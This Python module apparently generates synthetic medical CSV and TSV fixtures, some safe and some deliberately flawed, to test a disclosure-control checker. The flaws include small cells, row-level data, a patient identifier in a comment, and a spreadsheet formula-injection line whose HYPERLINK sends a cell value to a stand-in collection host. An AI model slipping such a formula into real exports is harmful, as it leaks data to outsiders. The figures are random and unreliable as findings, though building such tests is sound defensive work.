"""CSV and TSV."""

from .tools import c, csv, fr, pc, split


def write(shelf):
    # --- safe
    A, B = 914, 928
    rows = [
        ["", "", "Missing", "Overall", "usual care", "early mobilisation", "P-Value", "SMD"],
        ["n", "", "", A + B, A, B, "", ""],
    ]
    for var, lev, wa, wb, p, smd in [
        ("sex, n (%)", ["female", "male"], (46, 54), (47, 53), "0.712", "0.017"),
        ("NIHSS class, n (%)", ["0-4", "5-14", "15 and more"], (41, 40, 19), (43, 38, 19), "0.534", "0.041"),
        (
            "TOAST, n (%)",
            ["large artery", "cardioembolic", "small vessel", "undetermined"],
            (24, 31, 15, 30),
            (25, 29, 16, 30),
            "0.803",
            "0.049",
        ),
        ("Rankin at 90 days, n (%)", ["0-1", "2-3", "4-6"], (38, 35, 27), (42, 34, 24), "0.048", "0.110"),
    ]:
        a, b = split(A, *wa), split(B, *wb)
        for i, each in enumerate(lev):
            first = i == 0
            rows.append(
                [
                    var if first else "",
                    each,
                    "",
                    c(a[i] + b[i], A + B),
                    c(a[i], A),
                    c(b[i], B),
                    p if first else "",
                    smd if first else "",
                ]
            )
    rows += [
        ["age, mean (SD)", "", 0, "71.4 (12.9)", "71.6 (13.0)", "71.2 (12.8)", "0.508", "0.031"],
        [
            "door-to-needle (min), median [Q1,Q3]",
            "",
            0,
            "42.0 [31.0,58.0]",
            "43.0 [32.0,60.0]",
            "41.0 [31.0,57.0]",
            "0.066",
            "-0.052",
        ],
    ]
    csv(
        shelf.safe(
            "csv/tableone_mobilisation.csv",
            "small p-values, SMD, Rankin and NIHSS classes",
            "Baseline table of the two arms, made with Python tableone.",
            "1,842 patients hospitalised for ischaemic stroke, 2019-2023",
        ),
        rows,
    )

    rows = [["term", "estimate", "std.error", "statistic", "p.value", "conf.low", "conf.high"]]
    r = shelf.random("cox")
    import math

    for t in [
        "age_10y",
        "sexM",
        "diabetes",
        "ckd_stage3",
        "ckd_stage4_5",
        "lvef_10pct",
        "bmi_5",
        "af",
        "copd",
        "prior_hf_admission",
        "sglt2i",
        "arni",
        "beta_blocker",
        "anaemia",
    ]:
        b = r.uniform(-0.4, 0.6)
        se = r.uniform(0.04, 0.12)
        z = b / se
        rows.append(
            [
                t,
                f"{math.exp(b):.4f}",
                f"{se:.4f}",
                f"{z:.3f}",
                f"{math.erfc(abs(z) / 2**0.5):.3g}",
                f"{math.exp(b - 1.96 * se):.3f}",
                f"{math.exp(b + 1.96 * se):.3f}",
            ]
        )
    csv(
        shelf.safe(
            "csv/cox_readmission_tidy.csv",
            "hazard ratios and p-values, small numbers that are no persons",
            "broom::tidy() of the Cox model for readmission for heart failure.",
            "6,207 patients with heart failure, 1,388 readmissions",
        ),
        rows,
    )

    r = shelf.random("act")
    rows = [["Mois", "Pôle", "Séjours", "Journées", "DMS (jours)", "Taux d'occupation"]]
    for m in ["2023-01", "2023-02", "2023-03", "2023-04", "2023-05", "2023-06"]:
        for p, base, d in [
            ("Médecine", 640, 6.8),
            ("Chirurgie", 510, 4.3),
            ("Femme-Mère-Enfant", 480, 3.9),
            ("Gériatrie", 130, 14.6),
            ("Psychiatrie", 95, 24.2),
        ]:
            s = base + r.randint(-20, 20)
            dd = d + r.uniform(-0.4, 0.4)
            rows.append([m, p, s, round(s * dd), fr(dd), fr(r.uniform(78, 96)) + " %"])
    csv(
        shelf.safe(
            "csv/activite_poles_S1.csv",
            "month columns that look like dates, short mean stays",
            "Activité mensuelle des pôles au premier semestre, pour le comité de direction.",
            "Séjours du premier semestre 2023, tous pôles",
        ),
        rows,
        sep=";",
        enc="latin-1",
    )

    r = shelf.random("omop")
    rows = [["concept_id", "vocabulary_id", "concept_code", "domain", "n_records", "n_persons"]]
    for code, dom in [
        ("I10", "Condition"),
        ("E11", "Condition"),
        ("N18", "Condition"),
        ("J44", "Condition"),
        ("LOC-HB", "Measurement"),
        ("LOC-CREAT", "Measurement"),
        ("LOC-K", "Measurement"),
        ("C09AA", "Drug"),
        ("A10BA", "Drug"),
        ("B01AF", "Drug"),
        ("C07AB", "Drug"),
        ("N02BE", "Drug"),
    ]:
        p = r.randint(900, 30000)
        rows.append(
            [
                8000000000 + r.randint(1000000, 99999999),
                "LOCAL" if "LOC" in code else "ICD10/ATC",
                code,
                dom,
                int(p * r.uniform(1.6, 9)),
                p,
            ]
        )
    csv(
        shelf.safe(
            "csv/omop_concept_prevalence.tsv",
            "ten-digit concept ids that begin with 80",
            "Prevalence of the mapped local concepts in the OMOP database (Achilles-like counts).",
            "212,340 persons of the OMOP warehouse",
        ),
        rows,
        sep="\t",
    )

    rows = [["fold", "n_train", "n_test", "auroc", "auprc", "brier", "best_iteration"]]
    r = shelf.random("fold")
    for k in range(1, 11):
        rows.append(
            [
                k,
                16731,
                1859,
                f"{r.uniform(0.81, 0.84):.4f}",
                f"{r.uniform(0.35, 0.42):.4f}",
                f"{r.uniform(0.071, 0.08):.4f}",
                r.randint(180, 260),
            ]
        )
    rows.append(["mean", "", "", "0.8262", "0.3871", "0.0754", ""])
    csv(
        shelf.safe(
            "csv/cv10_sepsis_xgb.csv",
            "fold numbers 1 to 10",
            "Ten-fold cross-validation results of the sepsis model.",
            "18,590 ICU and step-down stays",
        ),
        rows,
    )

    rows = [["Région", "Population (milliers)", "Cas", "Taux brut /100 000", "IC95 inf", "IC95 sup", "Rang"]]
    r = shelf.random("inc")
    L = []
    for reg in ["Centre", "Est", "Littoral", "Montagne", "Nord", "Ouest", "Plaine", "Sud", "Vallée"]:
        pop = r.randint(700, 2400)
        cas = r.randint(34, 96)
        L.append((cas / pop * 100, reg, pop, cas))
    for k, (t, reg, pop, cas) in enumerate(sorted(L, reverse=True), 1):
        rows.append([reg, pop, cas, fr(t, 2), fr(t * (1 - 1.96 / cas**0.5), 2), fr(t * (1 + 1.96 / cas**0.5), 2), k])
    csv(
        shelf.safe(
            "csv/incidence_sla_regions.csv",
            "rates below 10 and ranks 1 to 9, all with more than 30 cases",
            "Incidence de la sclérose latérale amyotrophique par territoire, tous les territoires ont plus de 30 cas.",
            "Cas incidents 2015-2022, 9 territoires, 13 millions d'habitants",
        ),
        rows,
        sep=";",
        bom=True,
    )

    rows = [["SNP", "CHR", "BP", "EA", "OA", "EAF", "BETA", "SE", "P", "N"]]
    r = shelf.random("gwas")
    for _ in range(30):
        rows.append(
            [
                f"rs{r.randint(100000, 9999999)}",
                r.randint(1, 22),
                r.randint(1000000, 150000000),
                *r.sample("ACGT", 2),
                f"{r.uniform(0.12, 0.88):.3f}",
                f"{r.uniform(-0.12, 0.12):.4f}",
                f"{r.uniform(0.009, 0.02):.4f}",
                f"{r.uniform(1, 9.9):.2f}e-0{r.randint(2, 8)}",
                11874,
            ]
        )
    csv(
        shelf.safe(
            "csv/gwas_lead_snps_hdl.tsv",
            "chromosome numbers and positions, not persons",
            "Lead variants of the GWAS on HDL cholesterol, additive model, common variants only.",
            "11,874 genotyped volunteers of the biobank",
        ),
        rows,
        sep="\t",
    )

    rows = [["exam", "n", "mean", "sd", "q10", "q25", "median", "q75", "q90"]]
    r = shelf.random("lab")
    for e, m, s in [
        ("sodium", 138.2, 3.9),
        ("potassium", 4.1, 0.5),
        ("creatinine", 92.4, 41.0),
        ("urea", 7.4, 4.4),
        ("haemoglobin", 12.6, 2.1),
        ("platelets", 247, 92),
        ("leucocytes", 8.9, 4.0),
        ("crp", 38.0, 52.1),
        ("albumin", 36.4, 5.9),
        ("lactate", 1.7, 1.1),
    ]:
        q = [max(m * 0.2, m + s * z) for z in (-1.28, -0.67, -0.05, 0.62, 1.3)]
        rows.append([e, r.randint(6000, 9800), m, s, *[round(x, 1) for x in q]])
    csv(
        shelf.safe(
            "csv/lab_quantiles.csv",
            "quantiles of thousands of results, no extremes",
            "Distribution of first laboratory results on admission (10th to 90th percentiles).",
            "9,812 admissions to internal medicine",
        ),
        rows,
    )

    rows = [["indicateur", "2019", "2020", "2021", "2022", "2023"]]
    rows += [
        ["Nombre de centres participants", 4, 5, 6, 6, 7],
        ["Nombre de blocs opératoires", 8, 8, 9, 9, 9],
        ["Interventions", 4210, 3388, 4015, 4302, 4467],
        ["Ambulatoire", 1893, 1558, 2034, 2311, 2502],
        [
            "Part ambulatoire",
            *[pc(a, b, True) for a, b in [(1893, 4210), (1558, 3388), (2034, 4015), (2311, 4302), (2502, 4467)]],
        ],
        ["Durée médiane (min)", 74, 76, 73, 71, 70],
        ["Score moyen de satisfaction (/10)", "7,9", "8,1", "8,0", "8,2", "8,3"],
    ]
    csv(
        shelf.safe(
            "csv/indicateurs_bloc.csv",
            "counts of centres and theatres below 10",
            "Indicateurs annuels du bloc opératoire.",
            "20 382 interventions programmées 2019-2023",
        ),
        rows,
        sep=";",
    )

    rows = [["variable", "gain", "cover", "rank"]]
    r = shelf.random("imp")
    g = sorted((r.random() for _ in range(18)), reverse=True)
    s = sum(g)
    for k, (v, x) in enumerate(
        zip(
            [
                "lactate",
                "age",
                "news2",
                "heart_rate",
                "spo2",
                "urea",
                "sbp",
                "temp",
                "resp_rate",
                "crp",
                "platelets",
                "ph",
                "charlson",
                "transfer",
                "bicarbonate",
                "glucose",
                "weekend",
                "sex",
            ],
            g,
        ),
        1,
    ):
        rows.append([v, f"{x / s:.4f}", f"{r.uniform(0.01, 0.1):.4f}", k])
    csv(
        shelf.safe(
            "csv/xgb_importance.csv",
            "ranks and shares of variables, no persons",
            "Variable importance of the deterioration model.",
            "31,200 ward stays",
        ),
        rows,
    )

    # --- unsafe
    r = shelf.random("u1")
    rows = [["Diagnostic principal", "<18 ans", "18-39", "40-64", "65-79", "80 et plus"]]
    for d in [
        "Épilepsie généralisée",
        "Épilepsie focale",
        "État de mal",
        "Crise inaugurale",
        "Crises non épileptiques",
        "Encéphalopathie",
        "Sclérose tubéreuse",
        "Autres",
    ]:
        rows.append([d] + [r.randint(14, 160) for _ in range(5)])
    rows[7][5] = 4
    csv(
        shelf.unsafe(
            "csv/diag_age_epilepsie.csv",
            "small cell",
            "Sclérose tubéreuse, 80 et plus: 4",
            "Effectifs par diagnostic et classe d'âge.",
            "3 211 patients suivis pour épilepsie",
        ),
        rows,
        sep=";",
    )

    rows = [["unit", "patients", "falls", "pressure_ulcers", "hospital_acquired_bsi"]]
    for u in [
        "Cardiology",
        "Pneumology",
        "Nephrology",
        "Orthopaedics",
        "Digestive surgery",
        "Neurology",
        "Geriatrics A",
        "Geriatrics B",
        "Oncology",
        "Haematology",
    ]:
        rows.append([u, r.randint(400, 900), r.randint(14, 60), r.randint(12, 44), r.randint(11, 32)])
    rows[4][4] = 0
    csv(
        shelf.unsafe(
            "csv/adverse_events_units.csv",
            "zero of a real group",
            "Orthopaedics, hospital_acquired_bsi = 0",
            "Adverse events by unit, quality report.",
            "6,400 stays of 2022 in ten units",
        ),
        rows,
    )

    rows = [["vaccin", "eligibles", "vaccines", "couverture"]]
    for v, N, n in [
        ("Grippe 2019-20", 1188, 803),
        ("Grippe 2020-21", 1204, 952),
        ("Grippe 2021-22", 1211, 871),
        ("Covid dose 1", 1211, 1204),
        ("Covid dose 2", 1211, 1162),
        ("Covid rappel", 1211, 1040),
        ("Pneumocoque", 644, 398),
        ("dTP à jour", 1211, 1015),
        ("Hépatite B", 1211, 1139),
    ]:
        rows.append([v, N, n, pc(n, N, True)])
    csv(
        shelf.unsafe(
            "csv/couverture_vaccinale_ehpad.csv",
            "complement of 7 persons",
            "Covid dose 1: 1204 of 1211",
            "Couverture vaccinale des résidents par vaccin.",
            "1 211 résidents d'EHPAD rattachés à l'hôpital",
        ),
        rows,
        sep=";",
    )

    steps = [31, 28, 44, 39, 22, 6, 33, 41, 37, 26, 48, 30]
    cum = 0
    rows = [["month", "cumulative_inclusions"]]
    for i, s in enumerate(steps, 1):
        cum += s
        rows.append([f"M{i:02d}", cum])
    csv(
        shelf.unsafe(
            "csv/cumulative_recruitment.csv",
            "step of a cumulated series gives 6",
            "M06 minus M05",
            "Cumulative recruitment of the trial by month.",
            "385 participants of a randomised trial in rheumatology",
        ),
        rows,
    )

    r = shelf.random("rows")
    rows = [["profil", "sexe", "age", "imc", "hba1c", "duree_diabete", "traitement"]]
    for i in range(48):
        rows.append(
            [
                f"profil {i + 1}",
                r.choice("HF"),
                r.randint(31, 86),
                fr(r.gauss(29, 4)),
                fr(r.gauss(7.6, 0.9)),
                r.randint(1, 28),
                r.choice(["ADO", "insuline", "GLP1", "mixte"]),
            ]
        )
    csv(
        shelf.unsafe(
            "csv/profils_types_diabete.csv",
            "row-level data called profiles",
            "each 'profil' is a patient",
            "Profils observés dans la cohorte, pour illustration de l'hétérogénéité.",
            "48 profils issus de la file active de diabétologie",
        ),
        rows,
        sep=";",
    )

    rows = [["region", "histology", "mean_size_mm", "sd_size_mm", "mean_ki67"]]
    for a in ["head", "body", "tail", "duodenum", "ileum"]:
        for h in ["NET G1", "NET G2", "NET G3"]:
            rows.append([a, h, round(r.uniform(12, 44), 1), round(r.uniform(5, 14), 1), round(r.uniform(2, 40), 1)])
    rows[9][3] = "NA"
    csv(
        shelf.unsafe(
            "csv/net_size_by_site.csv",
            "SD of one person (NA)",
            "tail, NET G3: sd NA",
            "Tumour size and Ki-67 by site and grade, dplyr::summarise output.",
            "512 neuroendocrine tumours",
        ),
        rows,
    )

    rows = [
        ["etape", "effectif", "commentaire"],
        ["Séjours extraits", 4820, "requête du socle"],
        ["Âge < 18 ans exclus", 312, ""],
        ["Doublons exclus", 96, f"dossier {80 * 10**8 + 34120967} compté deux fois dans la première version"],
        ["Opposition", 41, ""],
        ["Données manquantes", 233, "créatinine absente"],
        ["Population d'analyse", 4138, ""],
    ]
    csv(
        shelf.unsafe(
            "csv/flux_population.csv",
            "IPP in a comment",
            "line Doublons, comment",
            "Diagramme de flux en tableau.",
            "4 138 séjours analysés, insuffisance rénale aiguë",
        ),
        rows,
        sep=";",
    )

    rows = [["label", "n", "share", "link"]] + [
        [f"DRG {k}", r.randint(120, 900), f"{r.uniform(0.02, 0.1):.3f}", ""]
        for k in ["05M09", "04M05", "08C24", "06C04", "10M02", "11K02", "23Z02", "14Z13"]
    ]
    rows[3][3] = '=HYPERLINK("http://collect.example.net/?v="&B4,"details")'
    csv(
        shelf.unsafe(
            "csv/drg_mix.csv",
            "formula injection",
            "row 4, column link",
            "Case mix of the year by DRG.",
            "14,200 stays of 2022",
        ),
        rows,
    )

    rows = [
        ["", "age", "los_days", "apache2", "lactate", "creatinine"],
        ["count", 2914.0, 2914.0, 2880.0, 2902.0, 2914.0],
        ["mean", 63.7, 6.92, 17.8, 2.61, 131.0],
        ["std", 15.2, 7.7, 7.4, 2.2, 98.4],
        ["min", 18.0, 0.2, 2.0, 0.4, 21.0],
        ["25%", 54.0, 2.1, 12.0, 1.3, 68.0],
        ["50%", 66.0, 4.2, 17.0, 1.9, 97.0],
        ["75%", 75.0, 8.6, 23.0, 3.0, 158.0],
        ["max", 88.0, 97.3, 46.0, 22.4, 1104.0],
    ]
    csv(
        shelf.unsafe(
            "csv/describe_icu.csv",
            "minimum and maximum",
            "rows min and max",
            "pandas describe() of the cohort's continuous variables.",
            "2,914 ICU stays",
        ),
        rows,
    )

    rows = [["Sous-groupe", "Taille du groupe", "Réponse complète", "Réponse partielle", "Stabilité", "Progression"]]
    for g, N, w in [
        ("Toutes tumeurs", 412, (18, 33, 27, 22)),
        ("PD-L1 négatif", 148, (12, 28, 32, 28)),
        ("PD-L1 1-49 %", 152, (15, 33, 28, 24)),
        ("PD-L1 >= 50 %", 112, (30, 38, 20, 12)),
    ]:
        rows.append([g, N, *[pc(x, N, True) for x in split(N, *w)]])
    rows.append(["Mutation KRAS G12C", 58, "24,1 %", "39,7 %", "32,8 %", "3,4 %"])
    csv(
        shelf.unsafe(
            "csv/reponse_immunotherapie.csv",
            "percentage that tells 2 of 58",
            "KRAS G12C, Progression 3,4 %",
            "Réponse tumorale selon les sous-groupes, en pourcentage.",
            "412 patients traités par immunothérapie, dont 58 mutés KRAS G12C",
        ),
        rows,
        sep=";",
    )
